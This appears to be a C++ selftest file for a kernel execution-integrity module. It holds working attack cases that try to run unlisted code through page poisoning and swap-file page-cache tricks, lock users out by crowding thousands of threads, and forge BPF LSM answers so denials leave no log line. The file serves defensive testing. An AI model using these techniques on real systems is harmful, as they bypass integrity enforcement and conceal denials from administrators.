// SPDX-License-Identifier: Apache-2.0
// Side doors: another call that drops pages, a file that is swapped to, all places for mappers taken, and
// others' LSM programs that answer for the keeper's writes.
//
// Goal: unlisted content runs, everybody is locked out, or a denial leaves no trace. Expected: refused, or
// told.
#include <bpf/bpf.h>
#include <bpf/libbpf.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstring>
#include <optional>
#include <vector>

#include "selftests/kernel/attacks/attack.h"
#include "selftests/kernel/attacks/pins.h"

namespace attacks {
namespace {

struct Disk {
  std::string folder = scratch();
  int error = 0;
  Disk() {
    if (mount("/dev/vda", folder.c_str(), "ext4", 0, nullptr) != 0) error = errno;
  }
  ~Disk() { (void)umount2(folder.c_str(), MNT_DETACH); }
  Disk(const Disk&) = delete;
  Disk& operator=(const Disk&) = delete;
};

// --- process_madvise on oneself
bool poison_vector(void* page) {
  const int self = static_cast<int>(syscall(SYS_pidfd_open, getpid(), 0));
  const iovec vec = {page, 4096};
  return syscall(SYS_process_madvise, self, &vec, 1, MADV_HWPOISON, 0) >= 0;
}
Report poison_by_vector() {
  const Disk disk;
  if (disk.error != 0) return not_tried("mount /dev/vda", disk.error);
  const std::string path = disk.folder + "/elfv";
  {
    const Fd fd(open(path.c_str(), O_RDWR | O_CREAT | O_CLOEXEC, 0755));
    const auto bad = tiny_elf(kUnknownCode);
    const auto good = get(known("elf"));
    if (!fd || pwrite(fd.get(), bad.data(), bad.size(), 0) < 0 || fsync(fd.get()) != 0 ||
        pwrite(fd.get(), good.data(), good.size(), 0) < 0)
      return not_tried("write", errno);
  }
  if (const int result = run({path}); result != kKnownCode) return judge_run(result, EPERM);
  int channel[2];
  if (pipe2(channel, O_CLOEXEC) != 0) return not_tried("pipe", errno);
  const pid_t pid = fork();
  if (pid == 0) {
    const Fd fd(open(path.c_str(), O_RDONLY | O_CLOEXEC));
    void* page = map_page(fd.get(), PROT_READ, MAP_SHARED);
    if (page == nullptr || *static_cast<volatile uint8_t*>(page) == 0xff || !poison_vector(page))
      (void)!write(channel[1], &errno, sizeof(errno));
    _exit(0);
  }
  (void)close(channel[1]);
  int error = 0;
  (void)!read(channel[0], &error, sizeof(error));
  (void)waitpid(pid, nullptr, 0);
  if (error == EINVAL) return not_tried("process_madvise takes no such advice here");
  if (error != 0) return refused("process_madvise", error, EPERM);
  return judge_run(run({path}), EPERM);
}

// --- swap to a file whose old content is still in the page cache
Report swap_file() {
  const Disk disk;
  if (disk.error != 0) return not_tried("mount /dev/vda", disk.error);
  const std::string path = disk.folder + "/swapped";
  const auto good = get("/opt/attacks/diglim-attack");
  constexpr size_t kPages = 64;  // of it are swapped to
  if (good.size() < kPages * 4096) return not_tried("big is small");
  auto file = std::vector<uint8_t>(good.begin(), good.end());
  memset(&file[0], 0, 4096);
  uint32_t* header = reinterpret_cast<uint32_t*>(&file[1024]);
  header[0] = 1;
  header[1] = kPages - 1;
  memcpy(&file[4086], "SWAPSPACE2", 10);
  if (!put(path, file)) return not_tried("write", errno);
  const Fd fd(open(path.c_str(), O_RDONLY | O_CLOEXEC));
  if (!fd || fsync(fd.get()) != 0) return not_tried("sync", errno);
  std::vector<uint8_t> all(file.size());
  if (pread(fd.get(), all.data(), all.size(), 0) < 0) return not_tried("read", errno);
  if (swapon(path.c_str(), 0) != 0) return not_tried("swapon", errno);
  const size_t size = size_t{200} * 4096;
  auto* memory =
      static_cast<uint8_t*>(mmap(nullptr, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0));
  const auto bad = code_page(kUnknownCode);
  for (size_t i = 0; i < size; i += 4096) {
    memcpy(memory + i, bad.data(), bad.size());
    memory[i + 4000] = static_cast<uint8_t>(i >> 12);
  }
  for (int i = 0; i < 20; ++i) {
    (void)madvise(memory, size, MADV_PAGEOUT);
    (void)usleep(50'000);
  }
  if (swapoff(path.c_str()) != 0) return not_tried("swapoff", errno);
  (void)munmap(memory, size);
  {
    const Fd writer(open(path.c_str(), O_WRONLY | O_CLOEXEC));
    if (pwrite(writer.get(), good.data(), 4096, 0) != 4096) return not_tried("write page 0", errno);
  }
  sync();
  void* code = map_page(fd.get(), PROT_READ | PROT_EXEC);
  if (code == nullptr) return refused("mmap of the known content", errno, EPERM);
  (void)munmap(code, 4096);
  (void)write_text("/proc/sys/vm/drop_caches", "1");
  void* later = mmap(nullptr, kPages * 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd.get(), 0);
  if (later == MAP_FAILED) return refused("mmap after", errno, EPERM);
  int result = 0;
  for (size_t i = 1; i < kPages && result != kUnknownCode; ++i)
    if (memcmp(static_cast<char*>(later) + i * 4096, bad.data(), 6) == 0)
      result = call(static_cast<char*>(later) + i * 4096);
  return judge_map(result, EPERM);
}

// --- all places for mappers taken
// One instruction for all system calls of a thread.
__attribute__((naked, noinline)) long one_call(long, long, long, long, long, long, long) {
  asm volatile(
      "movq %rdi, %rax\n movq %rsi, %rdi\n movq %rdx, %rsi\n movq %rcx, %rdx\n movq %r8, %r10\n movq %r9, "
      "%r8\n"
      "movq 8(%rsp), %r9\n syscall\n ret\n");
}
int crowd_fd;
volatile int crowd_mapped;
int stay(void*) {
  const long at = one_call(SYS_mmap, 0, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, crowd_fd, 0);
  if (at > 0) {
    __sync_fetch_and_add(&crowd_mapped, 1);
    one_call(SYS_munmap, at, 4096, 0, 0, 0, 0);
  }
  for (;;) one_call(SYS_pause, 0, 0, 0, 0, 0, 0);
}
Report crowd() {
  const std::string path = known_copy("page", false);
  const std::string other = known_copy("elf", false);
  if (run({other}) != kKnownCode) return not_tried("the known does not run before");
  crowd_fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
  constexpr int kCount = 5500;
  constexpr size_t kStack = 8192;
  int pipes[2];
  if (pipe(pipes) != 0) return not_tried("pipe", errno);
  const pid_t pid = fork();
  if (pid == 0) {
    auto* stacks = static_cast<char*>(mmap(nullptr, kCount * kStack, PROT_READ | PROT_WRITE,
                                           MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0));
    int count = 0;
    for (; count < kCount; ++count) {
      if (clone(stay, stacks + (count + 1) * kStack - 64,
                CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM,
                nullptr) < 0)
        break;
    }
    (void)sleep(2);
    int numbers[2] = {count, crowd_mapped};
    (void)!write(pipes[1], numbers, sizeof(numbers));
    for (;;) pause();
  }
  int numbers[2] = {};
  (void)!read(pipes[0], numbers, sizeof(numbers));
  int failed = 0;
  int last = 0;
  for (int i = 0; i < 20; ++i) {
    last = run({other});
    failed += last != kKnownCode;
    if (map_and_call(path) != kKnownCode) ++failed;
  }
  (void)kill(pid, SIGKILL);
  (void)waitpid(pid, nullptr, 0);
  const std::string text = std::to_string(numbers[0]) + " threads, " + std::to_string(numbers[1]) +
                           " mapped; " + std::to_string(failed) +
                           " of 40 others' uses of known files failed, last run " + std::to_string(last);
  return failed > 0 ? allowed(text) : harmless(text);
}

// --- an LSM program that answers "written"
Report judge_silence() {
  const std::string path = scratch() + "/silent";
  (void)put(path, tiny_elf(kUnknownCode));
  if (run({path}) != -EPERM) return allowed("the unknown runs");
  (void)sleep(4);
  if (is_in_log(path.c_str())) return harmless("the line is in the log");
  std::string status;
  (void)loader({"status"}, &status);
  constexpr char kNone[] = ", 0 denials not logged";
  std::string shown = status;
  if (const size_t at = status.find(kNone); at != std::string::npos) status.erase(at, sizeof(kNone) - 1);
  if (status.find("not logged") != std::string::npos) return harmless("no line, and status says so");
  if (is_in_log(path.c_str())) return harmless("the line came while status waited for it");
  for (char& c : shown)
    if (c == '\n') c = '|';
  return allowed("no line, and status does not say that one is missing: " + shown);
}

// An LSM program at file_permission that gives `answer`, two instructions, where the keeper writes, and else
// returns `pass`. What came out if it cannot be loaded; else it is in `program`.
std::optional<Report> load_for_keeper(bpf_attach_type type, const bpf_insn (&answer)[2], int pass,
                                      Fd& program) {
  const int id = libbpf_find_vmlinux_btf_id("file_permission", type);
  if (id < 0) return not_tried("BTF", ENOENT);
  const pid_t keeper = process_named("@diglim-keeper");
  if (keeper < 0) return not_tried("no keeper");
  const bpf_insn text[] = {
      {BPF_LDX | BPF_MEM | BPF_DW, BPF_REG_6, BPF_REG_1, 8, 0},  // mask
      {BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_get_current_pid_tgid},
      {BPF_ALU64 | BPF_RSH | BPF_K, BPF_REG_0, 0, 0, 32},
      {BPF_JMP | BPF_JNE | BPF_K, BPF_REG_0, 0, 4, static_cast<int>(keeper)},
      {BPF_ALU64 | BPF_AND | BPF_K, BPF_REG_6, 0, 0, 2},
      {BPF_JMP | BPF_JEQ | BPF_K, BPF_REG_6, 0, 2, 0},
      answer[0],
      answer[1],
      {BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_0, 0, 0, pass},
      {BPF_JMP | BPF_EXIT, 0, 0, 0, 0},
  };
  LIBBPF_OPTS(bpf_prog_load_opts, options);
  options.expected_attach_type = type;
  options.attach_btf_id = static_cast<__u32>(id);
  program =
      Fd(bpf_prog_load(BPF_PROG_TYPE_LSM, "foreign", "GPL", text, sizeof(text) / sizeof(text[0]), &options));
  if (!program && errno != EPERM) return not_tried("the verifier takes no positive answer", errno);
  if (!program) return refused("load", errno, EPERM);
  return std::nullopt;
}

Report forged_write() {
  const bpf_insn answer[] = {{BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_0, 0, 0, 100},
                             {BPF_JMP | BPF_EXIT, 0, 0, 0, 0}};
  Fd program;
  if (const auto outcome = load_for_keeper(BPF_LSM_MAC, answer, 0, program)) return *outcome;
  const Fd link(bpf_raw_tracepoint_open(nullptr, program.get()));
  if (!link) return refused("attach", errno, EPERM);
  return judge_silence();
}

// The same by a program of the root cgroup, which may set any answer up to 6.12.
Report forged_write_cgroup() {
  const bpf_insn answer[] = {{BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_1, 0, 0, 100},
                             {BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_set_retval}};
  Fd program;
  if (const auto outcome = load_for_keeper(BPF_LSM_CGROUP, answer, 1, program)) return *outcome;
  (void)mkdir("/sys/fs/cgroup", 0755);
  (void)mount("cgroup2", "/sys/fs/cgroup", "cgroup2", 0, nullptr);
  const Fd group(open("/sys/fs/cgroup", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
  const Fd link(bpf_link_create(program.get(), group.get(), BPF_LSM_CGROUP, nullptr));
  if (!link) return refused("attach", errno, EPERM);
  return judge_silence();
}

constexpr Attack kAttacks[] = {
    {"dropped-vector", kOff | kEnforce, "", poison_by_vector, "process_madvise(MADV_HWPOISON) on oneself"},
    {"swapped-file", kOff | kEnforce, "", swap_file, "swap to a file that is in the page cache"},
    {"crowd-user", kEnforce | kUser, nullptr, crowd, "every place for a mapper taken by uid 1000"},
    {"log-forged-write", kEnforce, "", forged_write, "an LSM program that answers for the keeper's write"},
    {"log-forged-cgroup", kEnforce, "", forged_write_cgroup, "the same by a cgroup's program"},
};

}  // namespace

std::span<const Attack> more_attacks() {
  return kAttacks;
}

}  // namespace attacks
